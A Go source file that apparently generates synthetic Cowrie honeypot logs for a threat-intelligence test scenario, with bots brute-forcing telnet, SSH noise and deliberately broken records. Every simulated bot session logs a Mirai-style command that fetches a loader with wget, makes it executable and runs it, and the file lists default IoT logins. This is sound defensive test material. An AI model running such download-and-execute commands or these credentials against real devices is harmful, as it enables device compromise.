package scenario

import (
	"fmt"
	"time"

	"github.com/opencure/cure"
)

// cowrieEvent is one line of cowrie's JSON log.
type cowrieEvent struct {
	EventID   string  `json:"eventid"`
	SrcIP     string  `json:"src_ip"`
	SrcPort   int     `json:"src_port,omitempty"`
	DstIP     string  `json:"dst_ip,omitempty"`
	DstPort   int     `json:"dst_port,omitempty"`
	Protocol  string  `json:"protocol,omitempty"`
	Username  string  `json:"username,omitempty"`
	Password  string  `json:"password,omitempty"`
	Version   string  `json:"version,omitempty"`
	HASSH     string  `json:"hassh,omitempty"`
	Input     string  `json:"input,omitempty"`
	URL       string  `json:"url,omitempty"`
	Outfile   string  `json:"outfile,omitempty"`
	Shasum    string  `json:"shasum,omitempty"`
	Duration  float64 `json:"duration,omitempty"`
	Session   string  `json:"session"`
	Timestamp string  `json:"timestamp"`
	Message   string  `json:"message"`
	Sensor    string  `json:"sensor"`
}

// cowrieLogins are factory defaults that bots try first.
var cowrieLogins = [][2]string{
	{"root", "xc3511"},
	{"root", "vizxv"},
	{"admin", "admin"},
	{"root", "888888"},
	{"root", "default"},
	{"support", "support"},
	{"root", "juantech"},
	{"guest", "12345"},
}

const cowrieLayout = "2006-01-02T15:04:05.000000Z"

// cowrieSensor is one sensor and the block of its noise.
type cowrieSensor struct {
	source cure.Source
	block  int
	silent bool // from 03:00 to 05:00
}

var cowrieSensors = []cowrieSensor{
	{"cowrie/tokyo1", 0, false},
	{"cowrie/osaka1", 1, false},
	{"cowrie/sendai1", 2, true},
}

// cowrie tells what the SSH and telnet honeypots saw: 38 bots that log in with
// factory defaults and fetch K1, noise every eight minutes, one sensor silent
// for two hours, a file that arrives a day late, and nine broken lines.
func cowrie(t *teller) {
	logs := make([]*journal, len(cowrieSensors))
	for i, s := range cowrieSensors {
		logs[i] = t.journal(s.source)
		cowrieNoise(t, logs[i], s)
	}
	late := t.journal("cowrie/osaka1")
	for i, bot := range t.story.Cast.botsOf("cowrie") {
		home := i % len(logs)
		t.cowrieBot(logs[home], bot, bot.First+t.seconds(240), cowrieSensors[home])
		if i%5 == 0 { // some come to a second sensor
			other := (home + 1) % len(logs)
			t.cowrieBot(logs[other], bot, bot.First+5*time.Minute+t.seconds(240), cowrieSensors[other])
		}
		if i >= 6 && i < 10 { // seen again on 11-19 by the sensor whose file is late
			t.cowrieBot(late, bot, at(19, 12, 0)+time.Duration(i)*7*time.Minute, cowrieSensors[1])
		}
	}
	for i, s := range cowrieSensors {
		cowrieBroken(t, logs[i], s)
		logs[i].file("cowrie.json", t.story.Now)
	}
	late.file("cowrie.json."+t.time(at(19, 12, 0)).Format("2006-01-02"), t.time(lateArrival))
}

// cowrieSession writes the events of one session.
type cowrieSession struct {
	log  *journal
	base cowrieEvent
	next time.Time
	t    *teller
}

func (t *teller) cowrieSession(log *journal, src string, start time.Duration, protocol string) *cowrieSession {
	s := &cowrieSession{log: log, next: t.time(start), t: t}
	s.base = cowrieEvent{
		SrcIP:   src,
		Session: fmt.Sprintf("%012x", t.rand.Uint64()>>16),
		Sensor:  "synthetic-" + log.source.Instance(),
	}
	e := s.base
	e.EventID, e.Protocol, e.SrcPort = "cowrie.session.connect", protocol, 1024+t.rand.IntN(60000)
	e.DstIP, e.DstPort = sensors[string(log.source)], 2222
	if protocol == "telnet" {
		e.DstPort = 2223
	}
	e.Message = fmt.Sprintf("New connection: %s:%d (%s:%d) [session: %s]", src, e.SrcPort, e.DstIP, e.DstPort, e.Session)
	s.write(e)
	t.saw(log.source, cure.KindIP, src)
	return s
}

// write writes an event and lets some seconds pass.
func (s *cowrieSession) write(e cowrieEvent) {
	e.Timestamp = s.next.UTC().Format(cowrieLayout)
	e.Message = "SYNTHETIC " + e.Message
	s.log.add(s.next, e)
	s.next = s.next.Add(time.Second/4 + s.t.seconds(3))
}

func (s *cowrieSession) login(user, password string, success bool) {
	e := s.base
	e.EventID, e.Username, e.Password = "cowrie.login.failed", user, password
	e.Message = fmt.Sprintf("login attempt [%s/%s] failed", user, password)
	if success {
		e.EventID = "cowrie.login.success"
		e.Message = fmt.Sprintf("login attempt [%s/%s] succeeded", user, password)
	}
	s.write(e)
}

func (s *cowrieSession) command(input string) {
	e := s.base
	e.EventID, e.Input, e.Message = "cowrie.command.input", input, "CMD: "+input
	s.write(e)
}

func (s *cowrieSession) download(url, hash string) {
	e := s.base
	e.URL = url
	if hash == "" {
		e.EventID, e.Message = "cowrie.session.file_download.failed", "Attempt to download file(s) from URL ("+url+") failed"
	} else {
		e.EventID, e.Shasum, e.Outfile = "cowrie.session.file_download", hash, "var/lib/cowrie/downloads/"+hash
		e.Message = "Downloaded URL (" + url + ") with SHA-256 " + hash + " to " + e.Outfile
		if hash != EmptyHash {
			s.t.saw(s.log.source, cure.KindHash, hash)
		}
	}
	if url != "" {
		s.t.saw(s.log.source, cure.KindURL, url)
	}
	s.write(e)
}

func (s *cowrieSession) close() {
	e := s.base
	seconds := 5 + float64(s.t.rand.IntN(60_000))/1000
	e.EventID, e.Duration = "cowrie.session.closed", seconds
	e.Message = fmt.Sprintf("Connection lost after %d seconds", int(seconds))
	s.write(e)
}

// cowrieBot tells one visit of a bot over telnet. K1 can be fetched once it is
// on the loader.
func (t *teller) cowrieBot(log *journal, bot Bot, start time.Duration, sensor cowrieSensor) {
	if sensor.silent && start >= silentFrom-2*time.Minute && start < silentUntil {
		start += 2*time.Hour + 5*time.Minute
	}
	s := t.cowrieSession(log, bot.Addr.String(), start, "telnet")
	first := t.rand.IntN(len(cowrieLogins))
	s.login(cowrieLogins[first][0], cowrieLogins[first][1], false)
	second := (first + 1 + t.rand.IntN(len(cowrieLogins)-1)) % len(cowrieLogins)
	s.login(cowrieLogins[second][0], cowrieLogins[second][1], true)
	for _, word := range []string{"enable", "system", "shell", "sh", "/bin/busybox " + Token} {
		s.command(word)
	}
	s.command("cd /tmp || cd /var/run; wget " + LoaderURL + " -O kage; chmod 777 kage; ./kage telnet.arm; >kage")
	hash := Hash("K1")
	if start < SamplesUp {
		hash = ""
	}
	t.saw(log.source, cure.KindIP, Loader)
	s.download(LoaderURL, hash)
	if t.rand.IntN(3) == 0 {
		s.download("", EmptyHash) // ">kage" leaves an empty file
	}
	s.close()
}

// cowrieNoise tells the visits of everybody else, over SSH.
func cowrieNoise(t *teller, log *journal, sensor cowrieSensor) {
	clients := []struct{ version, hassh string }{
		{"SSH-2.0-libssh_0.9.6", "51cba57125523ce4b9db67714a90bf6e"},
		{"SSH-2.0-Go", "98ddc5604ef6a1006a2b49a58759fbe6"},
	}
	for i, moment := 0, begin; moment < -2*time.Minute; i, moment = i+1, moment+8*time.Minute {
		start := moment + t.seconds(240)
		visitor, client := noise(sensor.block, i), clients[t.rand.IntN(len(clients))]
		user := cowrieLogins[t.rand.IntN(len(cowrieLogins))]
		if start >= -time.Minute || sensor.silent && start >= silentFrom-time.Minute && start < silentUntil {
			continue
		}
		s := t.cowrieSession(log, visitor, start, "ssh")
		e := s.base
		e.EventID, e.Version, e.Message = "cowrie.client.version", client.version, "Remote SSH version: "+client.version
		s.write(e)
		e = s.base
		e.EventID, e.HASSH, e.Message = "cowrie.client.kex", client.hassh, "SSH client hassh fingerprint: "+client.hassh
		s.write(e)
		s.login(user[0], user[1], false)
		s.close()
	}
}

// cowrieBroken writes three records that must be refused: a clock that was
// never set, a line cut in the middle, a zone that does not exist.
func cowrieBroken(t *teller, log *journal, sensor cowrieSensor) {
	for i, mistake := range []string{"1970", "cut", "zone"} {
		when := t.time(at(20, 6, 11*i))
		src := fmt.Sprintf("247.0.%d.%d", sensor.block, i+1)
		stamp := when.UTC().Format(cowrieLayout)
		switch mistake {
		case "1970":
			stamp = "1970-01-01T00:03:1" + fmt.Sprint(i) + ".000000Z"
		case "zone":
			stamp = when.Format("2006-01-02T15:04:05.000000") + "+25:00"
		}
		text := fmt.Sprintf(`{"eventid":"cowrie.session.connect","src_ip":%q,"src_port":4%04d,"dst_ip":%q,"dst_port":2223,`+
			`"protocol":"telnet","session":"00000000%02d%02d","timestamp":%q,"message":"SYNTHETIC broken record","sensor":"synthetic-%s"}`,
			src, i, sensors[string(log.source)], sensor.block, i, stamp, log.source.Instance())
		if mistake == "cut" {
			text = text[:len(text)/2]
		}
		log.broken(when, []byte(text), mistake)
		t.facts.forbid(Forbidden{
			Observable: cure.Observable{Kind: cure.KindIP, Value: src},
			Why:        "stands in a record that must be refused (" + mistake + ")",
		})
	}
}
